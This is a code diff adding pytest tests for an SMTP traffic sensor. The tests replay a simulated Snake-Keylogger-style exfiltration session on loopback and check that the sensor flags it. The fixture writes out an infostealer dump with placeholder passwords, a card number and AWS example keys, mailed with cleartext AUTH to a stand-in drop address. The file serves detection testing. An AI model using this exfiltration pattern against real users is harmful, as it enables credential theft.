@@ -369,3 +369,347 @@ def known_key(k):
         return True
     except KeyError:
         return False
+
+
+# ---- captures made here ---------------------------------------------------------------------
+
+SNAKE_USER = "drop@example.net"
+SNAKE_PASSWORD = "Kq7-unique-Passw0rd-zz"
+SNAKE_DUMP = ("PC Name: DESKTOP-7Q2LM0X\r\nDate and Time: 11/21/2026 10:02:11\r\n"
+              "IP Address: 203.0.113.45\r\n\r\nS--N--A--K--E\r\n\r\n"
+              "URL: https://login.example.org/\r\nUsername: j.doe@example.org\r\n"
+              "Password: hunter2!\r\n\r\n"
+              "URL: https://bank.example.com/\r\nUsername: jdoe\r\nPassword: S3cret-99\r\n"
+              "Card: 4539 1488 0343 6467 exp 04/29\r\n"
+              "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\r\n"
+              "AKIAIOSFODNN7EXAMPLE\r\n")
+
+
+def snake_message():
+    b64 = base64.encodebytes(SNAKE_DUMP.encode()).decode().replace("\n", "\r\n")
+    return ("From: drop@example.net\r\nTo: drop@example.net\r\n"
+            "Subject: Pc Name: DESKTOP-7Q2LM0X | Snake Keylogger\r\n"
+            "Date: Sat, 21 Nov 2026 10:02:11 +0000\r\nMessage-ID: <snake-1@desktop>\r\n"
+            "MIME-Version: 1.0\r\n"
+            "Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n"
+            "--b1\r\nContent-Type: text/plain\r\n\r\n" + SNAKE_DUMP + "\r\n"
+            "--b1\r\nContent-Type: text/plain; name=\"Passwords.txt\"\r\n"
+            "Content-Disposition: attachment; filename=\"Passwords.txt\"\r\n"
+            "Content-Transfer-Encoding: base64\r\n\r\n" + b64 + "--b1--\r\n")
+
+
+def plain_message(subject="quarterly numbers", body="see you tomorrow\r\n"):
+    return (f"From: alice@example.com\r\nTo: bob@example.org\r\nSubject: {subject}\r\n"
+            "Date: Sat, 21 Nov 2026 10:00:00 +0000\r\nMessage-ID: <plain-1@example.com>\r\n"
+            "X-Mailer: sensor-test 1.0\r\n\r\n" + body)
+
+
+class Server:
+    """aiosmtpd on loopback with AUTH LOGIN/PLAIN allowed in the clear (and STARTTLS with a
+    tls_context); accepts every message."""
+
+    def __init__(self, tls_context=None):
+        from aiosmtpd.controller import Controller
+        from aiosmtpd.smtp import AuthResult, LoginPassword
+
+        self.port = swtest.free_port()
+        self.messages = []
+        srv = self
+
+        class Handler:
+            async def handle_DATA(self, server, session, envelope):
+                srv.messages.append(bytes(envelope.content))
+                return "250 2.0.0 Ok: queued"
+
+        def authenticator(server, session, envelope, mechanism, auth_data):
+            ok = isinstance(auth_data, LoginPassword) and auth_data.password == \
+                SNAKE_PASSWORD.encode()
+            return AuthResult(success=ok)
+
+        kw = {"tls_context": tls_context} if tls_context is not None else {}
+        self.controller = Controller(Handler(), hostname="127.0.0.1", port=self.port,
+                                     ready_timeout=10, server_hostname="mx.sensor.test",
+                                     authenticator=authenticator, auth_require_tls=False, **kw)
+        self.controller.start()
+
+    def stop(self):
+        self.controller.stop()
+
+
+@contextlib.contextmanager
+def recording(path, port):
+    """tcpdump on lo for tcp port `port` into path while the block runs; stopped by PID."""
+    if shutil.which("tcpdump") is None:
+        pytest.skip("tcpdump is not installed (scripts/install-deps.sh)")
+    log = Path(str(path) + ".log")
+    with open(log, "wb") as lf:
+        # --immediate-mode: what the kernel holds is written before SIGTERM stops it;
+        # -Z root: tcpdump drops to its own user, which cannot write pytest's folders
+        user = ["-Z", "root"] if os.geteuid() == 0 else []
+        p = subprocess.Popen(["tcpdump", "-i", "lo", "-U", "--immediate-mode", "-n", "-s", "0",
+                              *user, "-w", str(path), f"tcp port {port}"],
+                             stdout=lf, stderr=lf)
+    try:
+        swtest.wait_until(lambda: b"listening on" in log.read_bytes() or p.poll() is not None,
+                          10, what="tcpdump to start")
+        if p.poll() is not None:
+            pytest.skip("tcpdump cannot capture here: " + log.read_text(errors="replace"))
+        yield
+        time.sleep(0.3)  # the last FIN/ACK through the kernel
+    finally:
+        if p.poll() is None:
+            p.send_signal(signal.SIGTERM)
+        try:
+            p.wait(timeout=10)
+        except subprocess.TimeoutExpired:
+            p.kill()
+            p.wait(timeout=10)
+
+
+class Conn:
+    """A raw client: send exactly these bytes, read the reply lines."""
+
+    def __init__(self, port):
+        self.c = swtest.RawSMTP(port)
+
+    def cmd(self, line):
+        self.c.send(line if isinstance(line, bytes) else line.encode())
+        return self.c.reply()
+
+    def close(self):
+        self.c.sock.close()
+
+
+def do_session(port, message, auth=True, pipelined=False, mail="drop@example.net",
+               rcpt="drop@example.net"):
+    c = Conn(port)
+    c.cmd("EHLO desktop-7q2lm0x\r\n")
+    if auth:
+        c.cmd("AUTH LOGIN\r\n")
+        c.cmd(base64.b64encode(SNAKE_USER.encode()) + b"\r\n")
+        code = c.cmd(base64.b64encode(SNAKE_PASSWORD.encode()) + b"\r\n")
+        assert code.code == 235, code
+    data = swtest.dot_stuff(message.encode())
+    if pipelined:
+        c.c.send(f"MAIL FROM:<{mail}>\r\nRCPT TO:<{rcpt}>\r\nDATA\r\n".encode())
+        for _ in range(3):
+            c.c.reply()
+    else:
+        c.cmd(f"MAIL FROM:<{mail}>\r\n")
+        c.cmd(f"RCPT TO:<{rcpt}>\r\n")
+        c.cmd("DATA\r\n")
+    code = c.cmd(data + b".\r\n")
+    assert code.code == 250, code
+    c.cmd("QUIT\r\n")
+    c.close()
+
+
+@pytest.fixture(scope="module")
+def snake_pcap(tmp_path_factory):
+    """A Snake-Keylogger-style session on loopback: EHLO, AUTH LOGIN in the clear, MAIL/RCPT
+    to itself, DATA with the stolen data attached in base64, QUIT."""
+    d = tmp_path_factory.mktemp("snake")
+    srv = Server()
+    try:
+        with recording(d / "snake.pcap", srv.port):
+            do_session(srv.port, snake_message())
+    finally:
+        srv.stop()
+    assert len(srv.messages) == 1
+    return d / "snake.pcap", srv.port
+
+
+def test_snake_session_alerts(binary, tmp_path, snake_pcap):
+    pcap, port = snake_pcap
+    rc, recs, alerts, raw, err = run_sensor(binary, pcap, "--password-hash", check_rc=1)
+    assert len(recs) == 1
+    r = recs[0]
+    assert r["id.resp_p"] == port and r["helo"] == "desktop-7q2lm0x"
+    assert r["mailfrom"] == "drop@example.net" and r["rcptto"] == ["drop@example.net"]
+    assert r["subject"] == "Pc Name: DESKTOP-7Q2LM0X | Snake Keylogger"
+    assert r["auth_user"] == SNAKE_USER and r["auth_mech"] == "LOGIN"
+    assert r["auth_cleartext"] is True and r["auth_outcome"] == "success"
+    assert len(r["auth_password_hash"]) == 64
+    assert r["tls"] is False and r["message_complete"] is True
+    att = [a for a in r["attachments"] if a["name"] == "Passwords.txt"]
+    assert att and att[0]["size"] == len(SNAKE_DUMP)
+    names = [a["alert"] for a in alerts]
+    assert "auth.cleartext" in names and "exfil.infostealer" in names
+    assert "exfil.self_addressed" in names
+    assert any(n.startswith("dlp.") for n in names), names
+    for a in alerts:
+        assert a["uid"] == r["uid"] and a["id.resp_p"] == port
+    info = next(a for a in alerts if a["alert"] == "exfil.infostealer")
+    assert {"infostealer.subject", "infostealer.banner",
+            "infostealer.attachment_name"} <= {f["detector"] for f in info["findings"]}
+    # found by content: the port is not an SMTP port
+    assert "1 found by content" in err and "1 SMTP sessions" in err
+    # the password, in any form, never appears in the output
+    for secret in (SNAKE_PASSWORD.encode(), base64.b64encode(SNAKE_PASSWORD.encode()),
+                   b"hunter2", b"S3cret-99", b"wJalrXUtnFEMI"):
+        assert secret not in raw, secret
+
+
+def test_snake_session_zeek_log(binary, tmp_path, snake_pcap):
+    pcap, _ = snake_pcap
+    _, recs, _, _, _ = run_sensor(binary, pcap, "--zeek-log", tmp_path / "z")
+    check_zeek_log_matches_json(tmp_path / "z" / "smtp.log", recs)
+    assert SNAKE_PASSWORD not in (tmp_path / "z" / "smtp.log").read_text()
+
+
+def test_password_hash_salt_from_config(binary, tmp_path, snake_pcap):
+    pcap, _ = snake_pcap
+    cfg = 'sensor:\n  password_salt: "fixed-salt"\n'
+    h = [run_sensor(binary, pcap, "--password-hash", config=cfg, tmp_path=tmp_path)[1][0]
+         ["auth_password_hash"] for _ in range(2)]
+    assert h[0] == h[1]
+    import hmac, hashlib
+    assert h[0] == hmac.new(b"fixed-salt", SNAKE_PASSWORD.encode(), hashlib.sha256).hexdigest()
+    # without --password-hash there is no hash at all
+    r = run_sensor(binary, pcap, config=cfg, tmp_path=tmp_path)[1][0]
+    assert "auth_password_hash" not in r
+
+
+def test_external_server_with_configured_mail_servers(binary, tmp_path, snake_pcap):
+    pcap, port = snake_pcap
+    # 127.0.0.1 is not one of the mail servers: speaking SMTP to it is an alert
+    cfg = "sensor:\n  mail_servers: [192.0.2.25/32]\n"
+    _, _, alerts, _, _ = run_sensor(binary, pcap, config=cfg, tmp_path=tmp_path)
+    ext = [a for a in alerts if a["alert"] == "smtp.external_server"]
+    assert len(ext) == 1 and ext[0]["id.resp_h"] == "127.0.0.1" and ext[0]["id.resp_p"] == port
+    # the server is ours: nothing
+    cfg = "sensor:\n  mail_servers: [127.0.0.1/32]\n"
+    _, _, alerts, _, _ = run_sensor(binary, pcap, config=cfg, tmp_path=tmp_path)
+    assert not [a for a in alerts if a["alert"] == "smtp.external_server"]
+    # the client may speak SMTP outward
+    cfg = "sensor:\n  mail_servers: [192.0.2.25/32]\n  mail_clients: [127.0.0.0/8]\n"
+    _, _, alerts, _, _ = run_sensor(binary, pcap, config=cfg, tmp_path=tmp_path)
+    assert not [a for a in alerts if a["alert"] == "smtp.external_server"]
+    # only allowed clients configured, and loopback is not one of them
+    cfg = "sensor:\n  mail_clients: [10.0.0.0/8]\n"
+    _, _, alerts, _, _ = run_sensor(binary, pcap, config=cfg, tmp_path=tmp_path)
+    assert len([a for a in alerts if a["alert"] == "smtp.external_server"]) == 1
+
+
+def test_port_list_and_bpf_filter(binary, tmp_path, snake_pcap):
+    pcap, port = snake_pcap
+    _, recs, _, _, err = run_sensor(binary, pcap, config=f"sensor:\n  ports: [{port}]\n",
+                                    tmp_path=tmp_path)
+    assert len(recs) == 1 and "0 found by content" in err
+    _, recs, alerts, _, _ = run_sensor(binary, pcap, "-f", "tcp port 9", check_rc=0)
+    assert recs == [] and alerts == []
+    p = subprocess.run([str(binary), "sensor", "-r", str(pcap), "-f", "tcp port nonsense"],
+                       capture_output=True, timeout=60)
+    assert p.returncode == 2
+
+
+# ---- the same session rewritten: out of order, retransmitted, one byte per segment ----------
+
+def rewrite(src, dst, how):
+    """src's packets rewritten by scapy into dst."""
+    from scapy.all import IP, TCP, Raw, rdpcap, wrpcap
+
+    pkts = rdpcap(str(src))
+    out = []
+    for p in pkts:
+        if how == "onebyte" and p.haslayer(Raw) and len(p[Raw].load) > 1:
+            load = bytes(p[Raw].load)
+            for i in range(len(load)):
+                q = p.copy()
+                q[TCP].seq = (p[TCP].seq + i) & 0xffffffff
+                q[Raw].load = load[i:i + 1]
+                del q[IP].len, q[IP].chksum, q[TCP].chksum
+                q.time = p.time
+                out.append(q)
+            continue
+        out.append(p)
+    if how == "retransmit":
+        # every data segment twice, the copy right after the original
+        out = [q for p in out for q in ((p, p.copy()) if p.haslayer(Raw) else (p,))]
+    if how == "reorder":
+        # swap each pair of consecutive data segments of the same direction
+        data = [i for i, p in enumerate(out) if p.haslayer(Raw)]
+        for a, b in zip(data[0::2], data[1::2]):
+            if out[a][TCP].sport == out[b][TCP].sport and b == a + 1:
+                out[a], out[b] = out[b], out[a]
+    wrpcap(str(dst), out)
+
+
+def comparable(rec):
+    return {k: v for k, v in rec.items() if k not in ("uid", "ts")}
+
+
+@pytest.mark.parametrize("how", ["reorder", "retransmit", "onebyte"])
+def test_rewritten_captures_give_the_same_record(binary, tmp_path, snake_pcap, how):
+    pytest.importorskip("scapy.all")
+    pcap, _ = snake_pcap
+    _, want, want_alerts, _, _ = run_sensor(binary, pcap)
+    dst = tmp_path / f"{how}.pcap"
+    rewrite(pcap, dst, how)
+    _, got, got_alerts, _, err = run_sensor(binary, dst)
+    assert [comparable(r) for r in got] == [comparable(r) for r in want]
+    assert sorted(a["alert"] for a in got_alerts) == sorted(a["alert"] for a in want_alerts)
+    assert "0 anomalies" in err
+
+
+def test_pcapng_reads_like_pcap(binary, tmp_path, snake_pcap):
+    pcap, _ = snake_pcap
+    if shutil.which("editcap") is None:
+        pytest.skip("editcap (tshark) not installed")
+    ng = tmp_path / "snake.pcapng"
+    subprocess.run(["editcap", "-F", "pcapng", str(pcap), str(ng)], check=True, timeout=60)
+    a = [comparable(r) for r in run_sensor(binary, pcap)[1]]
+    b = [comparable(r) for r in run_sensor(binary, ng)[1]]
+    assert a == b
+
+
+def test_starttls_session(binary, tmp_path, pki):
+    ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
+    ctx.load_cert_chain(pki.server_cert, pki.server_key)
+    srv = Server(tls_context=ctx)
+    try:
+        with recording(tmp_path / "tls.pcap", srv.port):
+            import smtplib
+            with smtplib.SMTP("127.0.0.1", srv.port, timeout=10) as s:
+                s.ehlo("laptop.example.com")
+                s.starttls(context=ssl._create_unverified_context())
+                s.ehlo("laptop.example.com")
+                s.login(SNAKE_USER, SNAKE_PASSWORD)
+                s.sendmail("alice@example.com", ["bob@example.org"], plain_message())
+    finally:
+        srv.stop()
+    assert len(srv.messages) == 1
+    rc, recs, alerts, raw, _ = run_sensor(binary, tmp_path / "tls.pcap", check_rc=0)
+    assert len(recs) == 1
+    r = recs[0]
+    assert r["tls"] is True and r["helo"] == "laptop.example.com"
+    assert "mailfrom" not in r and "subject" not in r  # nothing readable after STARTTLS
+    assert alerts == []
+    assert SNAKE_PASSWORD.encode() not in raw
+
+
+def test_pipelined_session(binary, tmp_path):
+    srv = Server()
+    try:
+        with recording(tmp_path / "pipe.pcap", srv.port):
+            do_session(srv.port, plain_message(), auth=False, pipelined=True,
+                       mail="alice@example.com", rcpt="bob@example.org")
+    finally:
+        srv.stop()
+    _, recs, alerts, _, _ = run_sensor(binary, tmp_path / "pipe.pcap", check_rc=0)
+    assert len(recs) == 1
+    r = recs[0]
+    assert r["mailfrom"] == "alice@example.com" and r["rcptto"] == ["bob@example.org"]
+    assert r["rcpt_replies"] == [250] and r["last_reply"].startswith("250 2.0.0")
+    assert r["subject"] == "quarterly numbers" and r["user_agent"] == "sensor-test 1.0"
+    assert r["verdict"] == "accept" and alerts == []
+    assert "auth_user" not in r
+
+
+def test_usage_errors_exit_2(binary, tmp_path):
+    for args in ([], ["-r", str(tmp_path / "missing.pcap")], ["-r", "x", "-i", "lo"],
+                 ["--bogus"]):
+        p = subprocess.run([str(binary), "sensor", *args], capture_output=True, timeout=60)
+        assert p.returncode == 2, args
+    p = subprocess.run([str(binary), "sensor", "--help"], capture_output=True, timeout=60)
+    assert p.returncode == 0 and b"Exit status" in p.stdout
